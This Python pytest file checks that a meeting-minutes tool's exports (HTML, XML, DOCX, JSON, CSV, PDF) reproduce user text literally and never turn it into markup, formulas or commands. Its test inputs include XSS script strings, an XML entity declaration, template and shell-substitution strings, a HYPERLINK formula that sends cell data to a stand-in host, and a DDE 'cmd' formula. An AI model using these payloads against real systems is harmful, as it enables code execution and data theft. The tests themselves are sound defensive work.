"""Whatever people write into the minutes comes out of every format as they wrote it: no markup, no command, no loss.

What has no shape or turns the reading order is left out where a page cannot hold it (`letters.plain`); nothing else is.
"""

import csv
import io
import json
import re
import zipfile
from datetime import timedelta
from functools import cache
from random import Random
from time import process_time

import pytest
from lxml import etree, html
from pypdf import PdfReader

from handzeichen.app.archive import RECORD, record_file
from handzeichen.app.formats import FORMATS, source
from handzeichen.app.source import Source
from handzeichen.log.chain import Head
from handzeichen.log.codec import read_entry, write_entry
from handzeichen.meeting import events as e
from handzeichen.meeting.events import Entry
from handzeichen.meeting.fold import evolve
from handzeichen.meeting.ids import ItemId, PersonId, Text
from handzeichen.record.editions import Edition
from handzeichen.record.writers.letters import plain
from meeting.kit import FACTIONS, ITEMS, PEOPLE, Evening, at_item, plan_of

HEAD = Head(99, "0f" * 32)
LINES = (
    "<script>alert(1)</script><b>fett</b>&amp;&lt;&#65;&nbsp;\"'",
    "]]> <!-- x --> <?xml version='1.0'?> <!DOCTYPE x [<!ENTITY y 'z'>]> &y;",
    "{{ 7*7 }} {% for x in y %}{# weg #}{%- endfor %} {{r x}} {%p if x %}",
    '#set page(fill: red) #import "x" $x^2$ *fett* _kursiv_ `roh` @hier <marke> = Titel ~ -- ---',
    r"{\rtf1\b x} \section{x} \u0041 \n %s %d {0} $(ls) ${x} `ls`",
    '=HYPERLINK("http://boese.example/?"&A1;"x") +1+1 -2 @SUM(A1)',
    "a;b,c|d\te\"f'g",
    "שלום עולם, مرحبا بالعالم",
    "\u202egnaf\u202c \u2066innen\u2069 \u200frechts \u061c",
    "👩\u200d👩\u200d👧\u200d👦🏳\ufe0f\u200d🌈👍🏽",
    "Z" + "\u0301\u0328\u0335" * 40 + "algo",
    "null\u200bbreit\u200d\u2060\ufeff weich\u00adtrennen",
    "\u0001\u0008\u001b[31mrot\u007f\u0085 \ufffe",
    "e\u0301 é ﬁ Ａ ﷽ ½ ㎏ Ǆ",
    "// Kommentar /* weg */ javascript:alert(1) https://boese.example/<x>",
    "x" * 900,
    "Straße, Çelik, Nguyễn, Łódź, Ђорђе, Ἀθῆναι 中文 𝔘𝔫𝔦",
)
BLOCKS = (
    "---\n- Liste\n1. eins\n+ plus\n/ Wort: x",
    "Absatz\n\n\n\nAbsatz\r\n\r\n= Überschrift\n> Zitat",
    *LINES,
)
LOSSLESS = (".html", ".txt", ".xml", ".docx", ".json")
"""Files from which a text can be taken out again as it went in."""


def mixed(random: Random) -> str:
    """Some of it, side by side."""
    return " ".join(random.sample(BLOCKS, 3)).replace("x" * 900, "x" * 90)


def anything(random: Random) -> str:
    """Letters of all planes, those that nobody has assigned among them; no command takes NUL or half a pair."""
    found = (
        chr(random.choice((random.randrange(1, 0x300), random.randrange(1, 0x110000)))) for _ in range(600)
    )
    return "".join(char for char in found if not "\ud800" <= char <= "\udfff")


@cache
def wild() -> tuple[Evening, tuple[str, ...]]:
    """An evening with such texts wherever a text is free, and those that minutes must tell."""
    said: list[str] = []

    def telling(text: str) -> str:
        said.append(f"Anf{len(said)}ang {text} End{len(said)}e")
        return said[-1]

    random = Random(8)
    items = [dict(item) for item in ITEMS]
    for number, item in enumerate(items):
        item["title"] = telling(LINES[number])
    items[1]["papers"] = [{"reference": telling(LINES[6]), "kind": "=1+1"}]
    people = [
        {**person, "name": f"={person['name']}{LINES[0]}"} if person["id"] == "falk" else person
        for person in PEOPLE
    ]
    factions = [{**FACTIONS[0], "name": f"{FACTIONS[0]['name']} {LINES[3]}"}, FACTIONS[1]]
    plan = plan_of(
        items=items,
        people=people,
        factions=factions,
        meeting={"place": LINES[1]},
        body={"municipality": LINES[2]},
    )
    evening = at_item("2", plan=plan)
    for text in (*BLOCKS, *(mixed(random) for _ in range(12)), *(anything(random) for _ in range(4))):
        evening.accepted("clerk", "note", item="2", text=telling(text))
    evening.accepted("clerk", "note", item="2", text="@SUM(1+1)*cmd|' /C calc'!A0")
    evening.accepted(
        "brandt",
        "move",
        motion="x1",
        kind="amendment",
        amends="m2",
        text=telling(LINES[2]),
        reason=telling(LINES[3]),
    )
    evening.vote("x1", "b1", no="ahrens brandt carstens demir ebeling falk")
    evening.vote("m2", "b2", yes="ahrens brandt carstens demir ebeling falk")
    evening.accepted("chair", "close_meeting", at="19:00")
    return evening, tuple(said)


def told() -> Source:
    return source(wild()[0].meeting, HEAD, Edition.NON_PUBLIC)


@cache
def file(name: str) -> bytes:
    if name == RECORD:
        return record_file(told().meeting, HEAD)
    return next(form for form in FORMATS if form.name == name).write(told())


def letters(text: str) -> str:
    """What must come out: no spaces, and nothing that no page can hold."""
    return re.sub(r"[\s\u00ad\u200b-\u200d]+", "", plain(text))


def text_in(name: str) -> str:
    """The text of a file, read by somebody else's parser."""
    data = file(name)
    if name.endswith(".html"):
        return str(html.fromstring(data).text_content())
    if name.endswith(".xml"):
        return "".join(etree.fromstring(data).itertext())
    if name.endswith(".docx"):
        with zipfile.ZipFile(io.BytesIO(data)) as packed:
            root = etree.fromstring(packed.read("word/document.xml"))
        return "".join(node.text or "" for node in root.iter("{*}t"))
    if name.endswith(".json"):
        return "".join(texts_of(json.loads(data)))
    return data.decode("utf-8-sig")


def texts_of(value: object) -> list[str]:
    if isinstance(value, dict):
        return [text for inner in value.values() for text in texts_of(inner)]
    if isinstance(value, list):
        return [text for inner in value for text in texts_of(inner)]
    return [value] if isinstance(value, str) else []


NAMES = [form.name for form in FORMATS]


@pytest.mark.parametrize(
    "name", [name for name in NAMES if name.startswith("niederschrift") and name.endswith(LOSSLESS)]
)
def test_minutes_hold_every_text_as_it_was_written(name: str) -> None:
    found = letters(text_in(name))
    lost = [text for text in wild()[1] if letters(text) not in found]
    assert lost == []


@pytest.mark.parametrize("name", [name for name in [*NAMES, RECORD] if name.endswith(".json")])
def test_data_are_json_and_hold_titles_and_texts(name: str) -> None:
    found = letters(text_in(name))
    assert letters(LINES[1]) in found


@pytest.mark.parametrize("name", [name for name in NAMES if name.endswith(".html")])
def test_nothing_becomes_markup_on_a_page(name: str) -> None:
    page = html.fromstring(file(name))
    assert [node for node in page.iter("script", "b", "marke", "hier")] == []
    assert [node.get("href") for node in page.iter("a") if "boese" in (node.get("href") or "")] == []


@pytest.mark.parametrize("name", [name for name in NAMES if name.endswith(".csv")])
def test_no_cell_of_a_table_is_a_formula_and_every_row_has_all_its_columns(name: str) -> None:
    rows = list(csv.reader(io.StringIO(file(name).decode("utf-8-sig")), delimiter=";"))
    assert len({len(row) for row in rows}) == 1
    assert [
        cell
        for row in rows
        for cell in row
        if cell.startswith(("=", "+", "@", "\t", "\r")) or re.match(r"-\D", cell)
    ] == []


@pytest.mark.parametrize("name", [name for name in NAMES if name.endswith(".pdf")])
def test_what_is_printed_runs_nothing_that_was_written(name: str) -> None:
    assert "7*7" in printed(name)


def printed(name: str) -> str:
    reader = PdfReader(io.BytesIO(file(name)))
    return "".join("".join(page.extract_text() for page in reader.pages).split())


def test_printed_minutes_hold_every_text_from_its_beginning_to_its_end() -> None:
    found = printed("niederschrift.pdf")
    marks = [mark for text in wild()[1] for mark in (text.split()[0], text.split()[-1])]
    assert [mark for mark in marks if mark not in found] == []


@pytest.mark.parametrize("name", [name for name in NAMES if name.startswith("niederschrift")])
def test_a_note_of_a_hundred_kilobytes_is_borne(name: str) -> None:
    """No command takes more than 20,000 characters; a log may hold more, and is written all the same."""
    evening = at_item("2")
    text = Text("Ein langer Satz mit 8 Wörtern und Umlauten äöü. " * 2_000 + "Schluss7")
    note = Entry(
        seq=99,
        at=evening.now + timedelta(1),
        by=PersonId("meyer"),
        event=e.NoteWritten(item=ItemId("2"), text=text),
    )
    meeting = evolve(evening.meeting, read_entry(99, write_entry(note)))
    started = process_time()
    written = next(form for form in FORMATS if form.name == name).write(source(meeting, HEAD, Edition.PUBLIC))
    assert process_time() - started < 20
    if name.endswith(".pdf"):
        assert (
            "Schluss7"
            in PdfReader(io.BytesIO(written)).pages[-1].extract_text()
            + PdfReader(io.BytesIO(written)).pages[-2].extract_text()
        )
    elif not name.endswith(".docx"):
        assert b"Schluss7" in written
